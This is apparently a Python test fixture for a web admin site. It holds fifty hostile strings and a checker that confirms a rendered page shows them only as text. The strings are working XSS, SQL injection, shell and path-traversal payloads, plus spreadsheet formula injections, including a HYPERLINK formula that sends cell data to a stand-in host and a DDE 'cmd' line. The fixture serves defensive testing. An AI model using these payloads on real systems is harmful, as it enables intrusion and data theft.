"""Fifty hostile strings, and a check that a page shows them only as text.

Any markup or code in them contains `xss`. It must never become the name of an element or an
attribute, a script, a style, a comment or a URL.
"""

import re

from lxml import etree, html

MARK = "xss"

STRINGS = [
    # Elements and their handlers
    "<script>xss()</script>",
    "<ScRiPt/xss>xss()//</sCrIpT >",
    "<img src=xss onerror=xss()>",
    "<svg/onload=xss()><xss>",
    "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
    "<details open ontoggle=xss()><summary>xss",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=xss()>",
    "<style>@import '//xss.example/x.css';</style>",
    "<base href='//xss.example/'><link rel=stylesheet href=//xss.example>",
    "<!--><img src=x onerror=xss()>--><xss>",
    "<a href=javascript:xss()>more</a>",
    "<meta http-equiv=refresh content='0;url=data:text/html,xss'>",
    # Out of an attribute, a text area, a title, a script, a style
    '" autofocus onfocus=xss() xss="',
    "' onmouseover='xss()' xss='",
    "` onpointerenter=xss() xss=`",
    '"><script>xss()</script><b title="',
    "</textarea><script>xss()</script>",
    "</title></option></select><img src=x onerror=xss()>",
    "</script><script>xss()</script>",
    "-->]]></style><xss>",
    # Entities, once and twice
    "&lt;script&gt;xss()&lt;/script&gt;",
    "&amp;lt;img src=x onerror=xss()&amp;gt;",
    "&#60;xss&#62; &#x3c;xss&#x3e; &quot;onclick=xss()",
    "%3Cscript%3Exss()%3C/script%3E",
    r"\u003cscript\u003exss()\u003c/script\u003e \x3cxss\x3e",
    # Addresses
    "javascript:xss()",
    "JaVa\tScRiPt:xss()//https://post.example/",
    "data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==",
    'https://post.example/"onclick=xss()//<xss>',
    "//xss.example/%0d%0aSet-Cookie:xss=1",
    # Templates and statements
    "{{ 7*7 }}{% load xss %}{# xss #}",
    "${xss()} #{xss()} <%= xss() %> {{constructor.constructor('xss()')()}}",
    "'; DROP TABLE quotes_quote; --xss",
    "\\' OR 1=1 /* xss */ $$ %s %(xss)s :xss ?",
    "$(xss) `xss` | xss & xss; ../../../etc/passwd",
    # Spreadsheets
    '=HYPERLINK("https://xss.example/"&A1;"xss")',
    "+xss+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C xss'!A0",
    "@SUM(1+9)*xss",
    "\t=xss()",
    "\r=xss()\n@xss",
    '"xss","=1+1";\'xss\'\r\n"=xss()',
    # Direction and invisible characters
    "\u202egpj.exe \u202dxss\u202a\u202b",
    "\u2066xss\u2067lliuQ araM\u2068",
    "Mara\u200b\u200c\u200d\u2060\ufeff\u00adQuill xss",
    "שלום xss مرحبا (1) \u200f\u061c!",
    "Z\u0351\u036b\u0343" + "\u0300\u0316\u0489" * 60 + "algo xss",
    # Length, and words that mean nothing
    "xss" * 160,
    "null",
    "\ud83d\udca3xss\ud800",
]
"""The last one contains a lone surrogate, which is not valid text."""

FORMULAS = [string for string in STRINGS if re.search(r'(^|[",;\r\n])[=+@\t\r\n-]', string)]
"""Those that a spreadsheet might take for a formula, in a cell or once they break out of it."""

# Our pages link to themselves or to the web
_ADDRESS = re.compile(r"(https?://|/|\?|#|$)|[^:]*$")
_ADDRESSES = {"href", "src", "action", "formaction", "srcdoc", "poster", "data", "{xlink}href"}
_NOT_OURS = {"iframe", "object", "embed", "base", "math"}
_TURNS = re.compile("[\u202a-\u202e\u2066-\u2069]")
_ISOLATES = (
    "ancestor-or-self::*[self::bdi or self::textarea or self::option or self::title or @dir"
    " or self::li[ancestor::*[contains(@class, 'breadcrumbs')]]"
    " or (self::a and ancestor::*[contains(@class, 'messagelist')])"
    " or ((self::h1 or self::h2) and ancestor::*[@id='content'])"
    " or (self::p and ancestor::*[contains(@class, 'original')])]"
)
"""Elements that isolate the direction of their text; the last through admin.css."""


def harm_done(page: str) -> list[str]:
    """Where a string became more than text, or changes the direction of the text around it."""
    root = html.document_fromstring(page.encode(), parser=html.HTMLParser(encoding="utf-8"))
    harm = []
    for node in root.iter():
        if isinstance(node, etree._Comment | etree._ProcessingInstruction):
            harm += [f"comment {node.text}"] if MARK in (node.text or "") else []
            continue
        if MARK in node.tag.lower() or node.tag in _NOT_OURS or node.get("http-equiv"):
            harm.append(f"element {node.tag}")
        text = node.text or ""
        if node.tag in ("script", "style") and (MARK in text or not node.get("src")):
            harm.append(f"{node.tag} {text[:80]}")
        for name, value in node.attrib.items():
            if MARK in name.lower() or name.lower().startswith("on") or name == "style":
                harm.append(f"attribute {name} of {node.tag}")
            if name in _ADDRESSES and not _ADDRESS.match(value):
                harm.append(f"address {value[:80]}")
        for said, holder in ((node.text, node), (node.tail, node.getparent())):
            if said and _TURNS.search(said) and not holder.xpath(_ISOLATES):
                harm.append(f"turn in {holder.tag}: {said!r}")
    return harm
